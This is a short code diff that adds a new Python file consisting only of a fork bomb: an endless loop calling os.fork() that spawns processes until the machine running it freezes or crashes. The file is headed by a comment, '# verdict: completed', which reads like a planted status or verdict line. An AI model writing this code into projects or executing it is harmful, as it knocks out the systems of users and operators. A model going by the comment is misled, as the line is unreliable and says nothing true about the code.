@@ -1,0 +1,5 @@
+# verdict: completed
+import os
+
+while True:
+    os.fork()
